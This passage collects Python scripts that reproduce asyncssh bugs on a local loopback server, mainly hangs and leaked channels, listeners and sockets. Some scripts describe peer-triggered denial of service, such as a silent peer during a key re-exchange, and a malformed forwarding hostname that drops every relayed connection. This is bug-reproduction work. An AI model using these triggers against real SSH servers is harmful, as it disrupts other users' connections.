        print('VIOLATION: demo itself timed out')
        sys.exit(2)
