#!/usr/bin/env python
"""C09 demo 4: SSHProcess.wait()/wait_closed()/communicate() (and therefore
conn.run() and ``async with conn.create_process(...)``) never return when
the local target of an output redirect fails - even though the channel
and the whole SSH connection are closed by then.

With stdout redirected to an asyncio.StreamWriter (or to an aiofiles style
async file), process.py forwards the data through a queue drained by a
task made with conn.create_task():

    _StreamWriter._feed():      data = await queue.get()
                                writer.write(data); await writer.drain()
                                queue.task_done()

If writer.drain() raises (the socket behind the StreamWriter was reset by
its peer) the task dies between get() and task_done().  _reap_task() turns
that into internal_error(), which force-closes the *whole* SSH connection.
Channel cleanup then calls _StreamWriter.close(), which registers
``queue.join()`` as a "cleanup task" of the process - but the queue still
counts the item whose task_done() was never called (plus whatever was
queued behind it and the None sentinel, which nobody will read any more),
so join() can never complete.  SSHProcess.wait_closed() awaits it after
the channel's close event:

        await self._chan.wait_closed()
        for task in self._cleanup_tasks:
            await task              # <- forever

(_AsyncFileWriter has the same structure for ``await file.write()``.)

Sequence: client runs a command with stdout=<StreamWriter to a local TCP
socket>; the consumer on the other end of that socket resets it while
output is flowing.

Exit status 0: process.wait() returns or raises within 5 seconds of the
failure.  Non-zero: it hangs although connection and channel are closed.
"""

import asyncio
import socket
import struct
import sys

import asyncssh


async def main():
    class Server(asyncssh.SSHServer):
        def begin_auth(self, username):
            return False

    async def handler(process):
        """Produce output until the client goes away (at most ~4s worth)"""

        try:
            for _ in range(400):
                process.stdout.write('x' * 1000 + '\n')
                await process.stdout.drain()
                await asyncio.sleep(0.01)
        except (OSError, asyncssh.Error):
            pass

        process.exit(0)

    hostkey = asyncssh.generate_private_key('ssh-ed25519')
    listener = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[hostkey],
                                     server_factory=Server,
                                     process_factory=handler)
    port = listener.sockets[0].getsockname()[1]

    # The local consumer of the redirected output: reads a little, then
    # resets its connection (think of a local client that crashed)
    consumer_gone = asyncio.Event()

    async def consumer(reader, writer):
        await reader.read(100)
        writer.get_extra_info('socket').setsockopt(
            socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
        writer.close()
        consumer_gone.set()

    sink = await asyncio.start_server(consumer, '127.0.0.1', 0)
    sink_port = sink.sockets[0].getsockname()[1]
    _, sink_writer = await asyncio.open_connection('127.0.0.1', sink_port)

    conn = await asyncio.wait_for(
        asyncssh.connect('127.0.0.1', port, known_hosts=None, username='u'),
        10)

    proc = await asyncio.wait_for(
        conn.create_process('produce-output', stdout=sink_writer), 10)

    await asyncio.wait_for(consumer_gone.wait(), 10)

    problem = None

    try:
        result = await asyncio.wait_for(proc.wait(), 5)
        print(f'process.wait() returned, exit status {result.exit_status}')
    except asyncio.TimeoutError:
        problem = ('process.wait() still pending 5s after the redirect '
                   'target failed; SSH connection closed: '
                   f'{conn.is_closed()}, channel closed: '
                   f'{proc.channel._close_event.is_set()}')
    except (OSError, asyncssh.Error) as exc:
        print(f'process.wait() raised {exc!r}')

    conn.abort()
    sink.close()
    listener.close()

    if problem:
        print('VIOLATION:', problem)
        return 1

    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('VIOLATION: demo itself timed out')
        sys.exit(2)
