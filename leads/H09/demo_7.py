#!/usr/bin/env python
"""C09 demo 7: a channel whose reading is paused never finishes closing
after the peer closed it - no connection_lost(), wait_closed() pending for
ever, channel still registered - if any data arrived while it was paused.

SSHChannel.pause_reading() documents:

    "Channel close notifications are not suspended by this call. If the
     remote system closes the channel while delivery is suspended, the
     channel will be closed even though some buffered data may not have
     been delivered."

The code does the opposite.  _process_close() answers the peer's
CHANNEL_CLOSE at once (_close_send()), sets _recv_state = 'close_pending'
and calls _flush_recv_buf(), which schedules _cleanup() only when
self._recv_buf is empty.  With data buffered behind the pause nothing is
scheduled, and nothing else ever will be unless the application resumes
reading (or the whole connection goes away).  The peer, which got its
CHANNEL_CLOSE answered, considers the channel gone, while on this side
the channel stays in conn._channels, the
session never sees connection_lost() and chan.wait_closed() never returns.

With the stream API the pause happens by itself: SSHStreamSession pauses
the channel once a window's worth of unread data is buffered.  A server
process handler that doesn't consume stdin and does
``await process.wait_closed()`` (or waits for anything other than input)
never learns that its client closed the channel.  That is the scenario run
here (window 4096, client writes 6000 bytes and closes).

Exit status 0: the server side channel finishes closing within 3s of the
client's channel being completely closed.  Non-zero otherwise.
"""

import asyncio
import sys

import asyncssh


async def main():
    state = {'handler': 'not started'}
    started = asyncio.Event()

    class Server(asyncssh.SSHServer):
        def begin_auth(self, username):
            return False

    async def handler(process):
        state['process'] = process
        state['handler'] = 'waiting in process.wait_closed()'
        started.set()

        await process.wait_closed()

        state['handler'] = 'finished'

    hostkey = asyncssh.generate_private_key('ssh-ed25519')
    listener = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[hostkey],
                                     server_factory=Server,
                                     process_factory=handler,
                                     encoding=None, window=4096)
    port = listener.sockets[0].getsockname()[1]

    conn = await asyncio.wait_for(
        asyncssh.connect('127.0.0.1', port, known_hosts=None, username='u'),
        10)

    proc = await asyncio.wait_for(conn.create_process('x', encoding=None), 10)
    await asyncio.wait_for(started.wait(), 10)

    # 4096 bytes fill the server session's buffer (it pauses the channel),
    # the rest arrives while reading is paused
    proc.stdin.write(b'x' * 6000)
    await asyncio.sleep(0.3)

    proc.close()
    await asyncio.wait_for(proc.wait_closed(), 10)
    print('client: channel completely closed (CLOSE sent and received)')

    await asyncio.sleep(3)

    chan = state['process'].channel
    registered = chan._conn is not None

    print(f'server: handler {state["handler"]}, channel recv state '
          f'{chan._recv_state!r}, still registered on its connection: '
          f'{registered}')

    conn.abort()
    listener.close()

    if state['handler'] != 'finished' or registered:
        print('VIOLATION: 3s after both sides exchanged CHANNEL_CLOSE the '
              'server side channel has not been cleaned up and '
              'wait_closed() is still pending')
        return 1

    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('VIOLATION: demo itself timed out')
        sys.exit(2)
