"""A connection to the local X server which completes after the SSH connection
has been closed is never closed (X11 forwarding on the client).

Expected (property C09): when an SSH connection is closed, everything that
hangs on it is closed with it - channels, listeners and the local ends of
forwarded connections, including those still being set up. This is what
SSHConnection.forward_connection() / forward_unix_connection() do since
"fix: don't leak a forwarded destination connection made after the SSH
connection closed": if the SSH connection went away while the destination
was being connected, the new socket is closed again.

Observed: the same flaw is still present for forwarded X11 connections.
SSHClientConnection._process_x11_open() hands the channel the coroutine
SSHX11ClientListener.forward_connection(), which connects to the X server.
When the SSH connection is closed while that connect is in progress,
SSHChannel._finish_open_request() finds the channel gone, raises
ChannelOpenError and drops the SSHX11ClientForwarder it was just given
without closing it. Its socket to the X server stays open for the life of
the process: the X server never sees the client go away.

Responsible code: asyncssh/x11.py SSHX11ClientListener.forward_connection()
(no check whether the SSH connection still exists once the connect has
finished) / asyncssh/channel.py SSHChannel._finish_open_request() (drops a
session created for a channel which is gone).

The demo uses a fake X server whose accept queue is full while the SSH
connection is open, so that the connect from asyncssh only completes after
the SSH connection has been closed.
"""

import asyncio
import socket
import sys
import tempfile

import asyncssh


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def handle_process(process):
    """Act as an X client: connect to the forwarded display"""

    display = process.channel.get_x11_display()

    if not display:
        process.stdout.write('no display\n')
        process.exit(1)
        return

    port = 6000 + int(display.split(':')[1].split('.')[0])

    try:
        reader, writer = await asyncio.open_connection('localhost', port)
        process.stdout.write('connected\n')
        await reader.read()
        writer.close()
    except OSError as exc:
        process.stdout.write(f'failed: {exc}\n')


def find_display():
    """Find a free display number and listen there with a tiny backlog"""

    for dpynum in range(70, 200):
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)

        try:
            sock.bind(('127.0.0.1', 6000 + dpynum))
        except OSError:
            sock.close()
            continue

        sock.listen(0)
        return sock, dpynum

    raise OSError('no free display')


async def main():
    loop = asyncio.get_event_loop()
    key = asyncssh.generate_private_key('ssh-ed25519')
    tmpdir = tempfile.TemporaryDirectory()

    xsock, dpynum = find_display()
    xport = 6000 + dpynum

    # Fill the accept queue of the fake X server, so further connection
    # attempts stay pending until we accept these
    fillers = []

    for _ in range(4):
        filler = socket.socket()
        filler.setblocking(False)

        try:
            filler.connect(('127.0.0.1', xport))
        except BlockingIOError:
            pass

        fillers.append(filler)

    await asyncio.sleep(0.2)

    acceptor = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                     server_host_keys=[key],
                                     process_factory=handle_process,
                                     x11_forwarding=True,
                                     x11_auth_path=tmpdir.name + '/sxauth')

    conn = await asyncssh.connect('127.0.0.1', acceptor.get_port(),
                                  known_hosts=None, username='user')

    process = await conn.create_process(
        'xclient', x11_forwarding=True, x11_display=f'127.0.0.1:{dpynum}',
        x11_auth_path=tmpdir.name + '/cxauth')

    print('X client on the server:', (await process.stdout.readline()).strip())

    # By now the server has opened an X11 channel and the client is trying
    # to connect to the (busy) X server. Close the SSH connection.
    await asyncio.sleep(0.5)
    conn.close()
    await asyncio.wait_for(conn.wait_closed(), 10)
    print('SSH connection closed:', conn.is_closed())

    # Now let the X server accept what is waiting. The connection from
    # asyncssh is the one which was not made by us.
    xsock.setblocking(False)
    own_ports = {filler.getsockname()[1] for filler in fillers}
    leaked = None
    deadline = loop.time() + 20

    while loop.time() < deadline and leaked is None:
        try:
            peer, addr = await asyncio.wait_for(loop.sock_accept(xsock), 1)
        except asyncio.TimeoutError:
            continue

        if addr[1] in own_ports:
            peer.close()
        else:
            leaked = peer

    for filler in fillers:
        filler.close()

    if leaked is None:
        print('asyncssh never connected to the X server - demo inconclusive')
        return 0

    print('X server accepted a connection from asyncssh after the SSH '
          'connection was closed')

    # A connection which is closed by asyncssh shows EOF (or a reset) here
    leaked.setblocking(False)

    try:
        data = await asyncio.wait_for(loop.sock_recv(leaked, 100), 8)
        print('X server: connection was closed by asyncssh, received', data)
        still_open = False
    except asyncio.TimeoutError:
        print('X server: connection is still open 8 seconds later')
        still_open = True
    except OSError as exc:
        print('X server: connection was closed by asyncssh:', exc)
        still_open = False

    leaked.close()
    xsock.close()
    acceptor.close()
    tmpdir.cleanup()

    if still_open:
        print('MISBEHAVIOUR: the connection to the X server was left open '
              'although the SSH connection it belonged to is gone')
        return 1

    print('OK: the connection to the X server was closed')
    return 0


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
