"""The acceptor of a listener is called for a connection which has already
been reported as lost.

Expected (property C09): the owner of a connection sees its callbacks in a
legal order, with connection_lost() as the final notification and nothing
after it. In particular the `acceptor` passed to asyncssh.listen() ("called
when the SSH handshake completes on an accepted connection") is not invoked
for a connection whose connection_lost() has already been delivered.

Observed: when SSHServer.auth_completed() is a coroutine (which the library
supports) and the client goes away while it is running, the connection is
cleaned up - connection_lost() is delivered to the SSHServer - and when
auth_completed() returns, SSHConnection.send_userauth_success() carries on
as if nothing had happened: it calls the acceptor with the dead connection
(and would start a coroutine acceptor as a task on it). The task can't be
cancelled by the cleanup because send_userauth_success() has already set
self._auth to None, and unlike _finish_userauth() (repaired by "fix: don't
complete authentication on a connection closed while begin_auth() ran") it
does not look whether the connection still exists after its await.

Responsible code: asyncssh/connection.py
SSHConnection.send_userauth_success() (no check of self._owner /
self._transport after `await result` of auth_completed()), together with
SSHConnection._cleanup() only clearing self._acceptor when an
error_handler was given.
"""

import asyncio
import sys

import asyncssh

events = []


class Server(asyncssh.SSHServer):
    def connection_made(self, conn):
        events.append('connection_made')

    def begin_auth(self, username):
        events.append('begin_auth')
        return False

    async def auth_completed(self):
        events.append('auth_completed begins')
        await asyncio.sleep(0.5)        # e.g. write an audit record
        events.append('auth_completed returns')

    def connection_lost(self, exc):
        events.append('connection_lost')


def acceptor(conn):
    events.append(f'acceptor called (conn.is_closed()={conn.is_closed()})')


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')

    listener = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                     server_host_keys=[key],
                                     acceptor=acceptor)

    conn = await asyncssh.connect('127.0.0.1', listener.get_port(),
                                  known_hosts=None, username='user')

    # The client goes away while the server is still in auth_completed()
    conn.abort()
    await conn.wait_closed()

    await asyncio.sleep(1.5)
    listener.close()

    print('server side events in order:')

    for event in events:
        print('   ', event)

    if 'connection_lost' not in events:
        print('connection_lost() missing - demo inconclusive')
        return 0

    after = events[events.index('connection_lost')+1:]
    bad = [event for event in after if event.startswith('acceptor')]

    if bad:
        print('MISBEHAVIOUR: acceptor was called after connection_lost()')
        return 1

    print('OK: nothing was delivered for the connection after '
          'connection_lost()')
    return 0


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
