"""Closing one process whose stdin is redirected from a stream tears down the
whole SSH connection and every other channel on it.

Expected (property C09): a local close() of one channel is an orderly close
of that channel only. Its session gets its final connection_lost() once the
peer has confirmed the close; the connection and the other channels on it
are not affected, and their pending operations go on.

Observed: the redirect source keeps being read between the local close()
and the arrival of the peer's CHANNEL_CLOSE (a network round trip). Data
which the source delivers in that window is passed by the feed task to
SSHProcess.feed_data(), which only ignores it when the reader is no longer
registered - and readers are only dropped in connection_lost(), i.e. after
the peer's close. So SSHChannel.write() raises BrokenPipeError('Channel not
open for sending') inside the task created with conn.create_task(); that is
reported through SSHConnection._reap_task() -> internal_error() ->
_force_close(): the connection is aborted without a disconnect message, the
owner gets connection_lost(BrokenPipeError) and all other channels are
closed with that error. (Same consequence as the case repaired by
"fix: ignore a redirect source which is still read after its channel has
closed", which only covers the time after connection_lost(). The same
happens when the peer closes the channel first and its cleanup is held up
by undelivered output, and with async file sources.)

Responsible code: asyncssh/process.py SSHProcess.feed_data() (checks only
`datatype in self._readers`, not whether the channel can still be written),
reached from _StreamReader._feed() / _AsyncFileReader._feed().
"""

import asyncio
import sys

import asyncssh


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def handle_process(process):
    """Behave like cat"""

    try:
        while True:
            data = await process.stdin.read(8192)

            if not data:
                break

            process.stdout.write(data)
    except (OSError, asyncssh.Error):
        pass

    process.exit(0)


class Client(asyncssh.SSHClient):
    lost = []

    def connection_lost(self, exc):
        Client.lost.append(exc)


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')

    acceptor = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                     server_host_keys=[key],
                                     process_factory=handle_process,
                                     encoding=None)

    conn = await asyncssh.connect('127.0.0.1', acceptor.get_port(),
                                  known_hosts=None, username='user',
                                  client_factory=Client)

    # An unrelated session on the same connection
    other = await conn.create_process('cat', encoding=None)
    other.stdin.write(b'ping\n')
    print('other session echo:', await other.stdout.readline())

    # A process which is fed from a stream (here one we fill by hand, it
    # could just as well be a socket or a subprocess pipe)
    source = asyncio.StreamReader()
    proc = await conn.create_process('cat', stdin=source, encoding=None)

    source.feed_data(b'first\n')
    print('redirected session echo:', await proc.stdout.readline())

    # Close the process; the source delivers some more data right away
    proc.close()
    source.feed_data(b'second\n')

    await asyncio.wait_for(proc.wait_closed(), 10)
    print('redirected process closed')

    await asyncio.sleep(0.5)

    # The other session must still work
    try:
        other.stdin.write(b'pong\n')
        line = await asyncio.wait_for(other.stdout.readline(), 5)
        other_ok = line == b'pong\n'
        print('other session echo after the close:', line)
    except (OSError, asyncssh.Error) as exc:
        other_ok = False
        print('other session failed after the close:', repr(exc))

    print('connection closed:', conn.is_closed(),
          '- owner connection_lost() calls:', Client.lost)

    bad = conn.is_closed() or not other_ok

    conn.abort()
    acceptor.close()

    if bad:
        print('MISBEHAVIOUR: closing one redirected process took down the '
              'connection and the other session')
        return 1

    print('OK: only the closed process was affected')
    return 0


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
