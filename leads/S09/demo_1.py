"""close()/wait_closed() of a connection never finishes when the peer goes
silent during a key re-exchange.

Expected (property C09): a local close of the connection always terminates;
`conn.close(); await conn.wait_closed()` (which is also what leaving
`async with asyncssh.connect(...)` does) completes within a bounded time no
matter what the peer does, and every channel gets its final
connection_lost().

Observed: when a key re-exchange is in progress (started by either side,
here by the client's own rekey_bytes limit) and at least one channel is open,
SSHConnection.disconnect() now only stores the disconnect in
`_deferred_disconnect` and returns. The transport is neither closed nor is
any timer armed; the connection is only torn down from
_send_deferred_packets(), i.e. once the peer has answered the key exchange.
A peer which has gone silent (network black hole, hung or hostile server
which sends KEXINIT and then nothing) therefore keeps wait_closed(), the
channel's wait_closed() and the session's connection_lost() waiting forever.
The same close() on a connection which is not re-keying finishes at once
against the very same silent peer (shown as the control run).

Responsible code: asyncssh/connection.py SSHConnection.disconnect()
(early `return` after setting self._deferred_disconnect) together with
SSHConnection._send_deferred_packets() being the only place which ever
completes the close (introduced by "fix: send data held back by a key
re-exchange before disconnecting").
"""

import asyncio
import sys

import asyncssh


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False            # no authentication needed


async def handle_process(process):
    try:
        await process.stdin.read()
    except Exception:
        pass

    process.exit(0)


class Proxy:
    """A TCP relay which can be told to silently stop relaying"""

    def __init__(self, target_port):
        self.target_port = target_port
        self.stalled = False
        self.server = None
        self.port = None
        self.tasks = []
        self.writers = []

    async def start(self):
        self.server = await asyncio.start_server(self._accept, '127.0.0.1', 0)
        self.port = self.server.sockets[0].getsockname()[1]

    async def _pump(self, reader, writer):
        try:
            while True:
                data = await reader.read(65536)

                if not data:
                    break

                if self.stalled:
                    continue    # black hole: swallow, never signal anything

                writer.write(data)
                await writer.drain()
        except (OSError, asyncio.CancelledError):
            pass

    async def _accept(self, reader, writer):
        up_reader, up_writer = await asyncio.open_connection(
            '127.0.0.1', self.target_port)

        self.writers += [writer, up_writer]
        self.tasks.append(asyncio.ensure_future(self._pump(reader, up_writer)))
        self.tasks.append(asyncio.ensure_future(self._pump(up_reader, writer)))

    async def stop(self):
        for task in self.tasks:
            task.cancel()

        for writer in self.writers:
            writer.transport.abort()

        self.server.close()


async def attempt(server_port, rekey):
    """Open a session, let the peer go silent, write, close the connection"""

    proxy = Proxy(server_port)
    await proxy.start()

    kwargs = {'rekey_bytes': 8192} if rekey else {}

    conn = await asyncssh.connect('127.0.0.1', proxy.port, known_hosts=None,
                                  username='user', **kwargs)

    process = await conn.create_process('cat', encoding=None)

    proxy.stalled = True        # from now on the peer is silent

    # With rekey_bytes=8192 this makes the client start a key re-exchange,
    # the rest of the data is held back in _deferred_packets
    process.stdin.write(b'x' * 20000)

    chan_waiter = asyncio.ensure_future(process.channel.wait_closed())

    conn.close()

    try:
        await asyncio.wait_for(conn.wait_closed(), 8)
        closed = True
    except asyncio.TimeoutError:
        closed = False

    chan_closed = chan_waiter.done()
    chan_waiter.cancel()

    print(f'  rekey in progress: {rekey}: conn.wait_closed() finished: '
          f'{closed}, conn.is_closed(): {conn.is_closed()}, '
          f'channel closed: {chan_closed}')

    conn.abort()
    await proxy.stop()

    return closed


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')

    acceptor = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                     server_host_keys=[key],
                                     process_factory=handle_process,
                                     encoding=None)

    port = acceptor.get_port()

    print('control: peer goes silent, no key re-exchange in progress')
    control = await attempt(port, rekey=False)

    print('test: peer goes silent while a key re-exchange is in progress')
    test = await attempt(port, rekey=True)

    acceptor.close()

    if not control:
        print('control run failed - demo inconclusive')
        return 0

    if not test:
        print('MISBEHAVIOUR: close() + wait_closed() did not finish within '
              '8 seconds; nothing would ever finish it')
        return 1

    print('OK: the connection was closed in both cases')
    return 0


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
