"""Opening a session never completes when the server answers the exec/shell/
subsystem request with some output followed by a channel close instead of
a success/failure reply.

Expected (property C09): a pending channel open/request completes or fails
once the peer has closed the channel; conn.run() / create_session() /
create_process() raise ChannelOpenError (as they do when the server closes
the channel without sending output first - see the control run).

Observed: the call waits forever, on a connection which stays up and
otherwise works. Data received before the session has been started is
parked in the channel's _recv_buf because _recv_paused is still 'starting'.
When the peer's CHANNEL_CLOSE arrives, SSHChannel._process_close() sets
_recv_state = 'close_pending' and calls _flush_recv_buf(), which does not
schedule _cleanup() as long as _recv_buf isn't empty. The only thing that
would empty it is _start_reading(), which SSHClientChannel.create() only
starts after the very request it is waiting for has been answered. So the
waiter in _request_waiters is never resolved, the session never gets
connection_lost(), and the channel stays registered until the whole
connection goes away.

A server written with asyncssh itself behaves like this peer when its
exec_requested() writes a message and closes the channel (the reply is
dropped because the channel is already closed for sending); so do devices
which print "access denied" and hang up.

Responsible code: asyncssh/channel.py SSHChannel._process_close() /
SSHChannel._flush_recv_buf() (no cleanup while _recv_paused == 'starting'
and data is buffered) in combination with SSHClientChannel.create()
awaiting _make_request() before _start_reading().
"""

import asyncio
import sys

import asyncssh


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False

    def session_requested(self):
        return RefusingSession()


class RefusingSession(asyncssh.SSHServerSession):
    """Refuse a command, optionally telling the user why, and hang up"""

    def connection_made(self, chan):
        self._chan = chan

    def exec_requested(self, command):
        if command == 'with-message':
            self._chan.write('This account is not available\n')

        self._chan.close()
        return False


class ClientSession(asyncssh.SSHClientSession):
    events = []

    def connection_made(self, chan):
        self.events.append('connection_made')

    def connection_lost(self, exc):
        self.events.append('connection_lost')


async def attempt(conn, command):
    ClientSession.events = []

    try:
        await asyncio.wait_for(
            conn.create_session(ClientSession, command), 8)
        result = 'returned a session'
        done = True
    except asyncio.TimeoutError:
        result = 'STILL WAITING after 8 seconds'
        done = False
    except asyncssh.ChannelOpenError as exc:
        result = f'failed with ChannelOpenError: {exc.reason}'
        done = True

    await asyncio.sleep(0.2)

    print(f'  create_session({command!r}): {result}; '
          f'session callbacks: {ClientSession.events}')

    return done


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')

    acceptor = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                     server_host_keys=[key])

    conn = await asyncssh.connect('127.0.0.1', acceptor.get_port(),
                                  known_hosts=None, username='user')

    print('control: server closes the channel instead of replying')
    control = await attempt(conn, 'without-message')

    print('test: server sends a message and closes the channel instead of '
          'replying')
    test = await attempt(conn, 'with-message')

    # The connection itself is still alive and usable
    alive = await attempt(conn, 'without-message')

    conn.abort()
    acceptor.close()

    if not control or not alive:
        print('control run failed - demo inconclusive')
        return 0

    if not test:
        print('MISBEHAVIOUR: the pending session open was neither completed '
              'nor failed although the peer had closed the channel')
        return 1

    print('OK: the open failed or completed')
    return 0


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
