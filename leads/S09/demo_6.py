"""A channel whose peer has closed it never finishes closing when the output
ends in an incomplete character and the reader was paused at that moment:
reads raise ProtocolError and then wait forever, as does wait_closed().

Expected (property C09): once the peer has sent EOF and CLOSE, the channel
gets closed on this side too: buffered data is delivered, the session gets
eof_received()/connection_lost() (with an error if the data can't be
decoded), wait_closed() returns and the channel is removed from the
connection. This is what happens when the reader is not paused (the decode
error is raised in the packet handler and the connection is disconnected
with a ProtocolError) and when the connection goes away
(process_connection_close() passes the decode error to _cleanup()).

Observed: when EOF and CLOSE arrive while the session has paused reading
(a consumer which is slower than the network: the stream classes pause the
channel on their own once a receive window's worth of data is unread), the
final step is taken later from SSHChannel.resume_reading(), called by the
application's read(). SSHChannel._flush_recv_buf() then flushes the decoder,
gets a UnicodeDecodeError for the truncated character and raises
ProtocolError *before* it gets to deliver EOF or to schedule _cleanup(). The
exception comes out of the application's stream read() - which thereby also
loses the data it had just taken from the buffer - and nothing else happens:
the channel stays in 'close_pending' for good. Further reads raise the same
error again as long as they resume the channel, and once the stream buffer
is empty read() waits forever as no EOF is ever reported; wait_closed() /
`async with process` never return, the session never sees connection_lost()
and the channel stays registered. The peer has nothing more to send for this
channel, so nothing ever ends it.

Responsible code: asyncssh/channel.py SSHChannel._flush_recv_buf()
(`raise ProtocolError(...)` from the final decode when reached through
SSHChannel.resume_reading() rather than from a packet handler), reached from
asyncssh/stream.py SSHStreamSession._maybe_resume_reading().

The remote command here behaves like `head -c N` on UTF-8 text: its output
stops in the middle of a character.
"""

import asyncio
import sys

import asyncssh


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def handle_process(process):
    text = ('a' * 10000 + '€').encode('utf-8')
    process.stdout.write(text[:-1])     # cut in the middle of the last char
    process.exit(0)


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')

    acceptor = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                     server_host_keys=[key],
                                     process_factory=handle_process,
                                     encoding=None)

    conn = await asyncssh.connect('127.0.0.1', acceptor.get_port(),
                                  known_hosts=None, username='user')

    # A small window only serves to keep the amount of data in the demo
    # small; with the default window it takes 2 MB of unread output
    process = await conn.create_process('head -c 10002 text', window=8192)

    # A consumer which is slower than the network
    await asyncio.sleep(0.5)

    received = 0
    errors = 0

    for _ in range(20):
        try:
            data = await asyncio.wait_for(process.stdout.read(1000), 5)
        except asyncssh.ProtocolError as exc:
            errors += 1

            if errors <= 2:
                print(f'read() raised: {exc!r}')

            continue
        except asyncio.TimeoutError:
            print('read() timed out')
            break

        if not data:
            print('read() reported EOF')
            break

        received += len(data)

    print(f'{received} of 10000 characters received, {errors} reads failed')

    try:
        await asyncio.wait_for(process.wait_closed(), 8)
        closed = True
    except asyncio.TimeoutError:
        closed = False

    print(f'exit status known: {process.exit_status}; '
          f'process.wait_closed() finished: {closed}; '
          f'connection closed: {conn.is_closed()}')

    conn.abort()
    acceptor.close()

    if not closed:
        print('MISBEHAVIOUR: the peer closed the channel long ago, but it '
              'never finishes closing here')
        return 1

    print('OK: the channel was closed')
    return 0


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
