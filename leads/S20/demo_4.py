"""A local UNIX domain forwarding listener survives the end of its SSH
connection when a second one was set up on the same path.

Expected by the property: all listeners are released when their connection
ends.  (A second listener on a path already in use should be refused, as it
is for TCP ports - bind() fails - and as commit 9109c5e did for the server
side handling of streamlocal-forward requests.)

Observed: SSHClientConnection.forward_local_path() called twice with the
same listen path succeeds both times: asyncio's create_unix_server() silently
unlinks the first listener's socket file and binds a new one.  The second
listener replaces the first in the connection's table of listeners, which is
keyed by path.  When the SSH connection ends, only the second one is closed.
The first listening socket stays open for the life of the process, although
the connection it would forward to no longer exists.

Responsible code: asyncssh/connection.py SSHConnection.forward_local_path()
and SSHClientConnection.forward_local_path_to_port():
"self._local_listeners[listen_path] = listener" without looking whether the
connection already listens there (the check commit 9109c5e added only covers
SSHServerConnection._process_streamlocal_forward_at_openssh_dot_com_
global_request); SSHConnection._cleanup() closes only what is in that table.
"""

import asyncio
import os
import sys

import asyncssh


LISTEN_PATH = '/tmp/hunt_S20/demo_4.sock'


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False

    def unix_connection_requested(self, dest_path):
        return True


def listening_sockets(path):
    """Return the inodes of listening UNIX sockets bound to path"""

    result = []

    with open('/proc/net/unix') as f:
        next(f)

        for line in f:
            fields = line.split()

            # Num RefCount Protocol Flags Type St Inode Path
            if len(fields) >= 8 and fields[7] == path and \
                    int(fields[3], 16) & 0x10000:       # __SO_ACCEPTCON
                result.append(fields[6])

    return result


async def main():
    try:
        os.unlink(LISTEN_PATH)
    except OSError:
        pass

    ssh_srv = await asyncssh.listen(
        '127.0.0.1', 0, server_factory=Server,
        server_host_keys=[asyncssh.generate_private_key('ssh-ed25519')])
    ssh_port = ssh_srv.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', ssh_port, known_hosts=None,
                                  username='user')

    await conn.forward_local_path(LISTEN_PATH, '/tmp/hunt_S20/dest_a')
    print('after 1st forward_local_path: listening sockets on path:',
          listening_sockets(LISTEN_PATH))

    try:
        await conn.forward_local_path(LISTEN_PATH, '/tmp/hunt_S20/dest_b')
        print('after 2nd forward_local_path: listening sockets on path:',
              listening_sockets(LISTEN_PATH))
    except OSError as exc:
        print('2nd forward_local_path on the same path refused:', exc)

    conn.close()
    await conn.wait_closed()
    await asyncio.sleep(0.5)

    left = listening_sockets(LISTEN_PATH)
    print('after the SSH connection has closed: listening sockets on path:',
          left)

    ssh_srv.close()
    await ssh_srv.wait_closed()

    try:
        os.unlink(LISTEN_PATH)
    except OSError:
        pass

    if left:
        print('MISBEHAVIOUR: a forwarding listener of the closed connection '
              'is still open')
        return 1
    else:
        print('OK: all listeners were released')
        return 0


sys.exit(asyncio.run(main()))
