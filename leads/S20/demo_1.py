"""One unresolvable destination name tears down every forwarded connection.

Expected by the property: data sent into a forwarded connection comes out of
the other end complete and in order, and a forwarding request which can't be
served is refused - nothing more.  A request for a destination which can't be
connected to must fail that one channel open (OPEN_CONNECT_FAILED) and leave
the other forwarded connections of the SSH connection alone.

Observed: when a direct-tcpip open (here made through a dynamic SOCKS
forwarder, as a browser using "remote DNS" would) names a host which Python's
resolver rejects before it ever gets to DNS - a label longer than 63
characters, an empty label as in "a..b", an embedded NUL - or a port above
65535, the asyncssh *server* drops the whole SSH connection with an internal
error.  Every other connection relayed over it is cut in the middle of its
stream.

Responsible code: asyncssh/connection.py SSHConnection.forward_connection()
only turns OSError from loop.create_connection() into ChannelOpenError, but
getaddrinfo() raises UnicodeError (idna codec) / ValueError / OverflowError
for such input.  The exception escapes SSHChannel._finish_open_request()
(asyncssh/channel.py, only ChannelOpenError is caught), the task is reaped by
SSHConnection._reap_task() which calls internal_error() and force-closes the
connection.  (forward_unix_connection and the listen side,
_finish_port_forward -> create_tcp_local_listener, have the same shape.)
"""

import asyncio
import sys

import asyncssh


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False            # no authentication needed

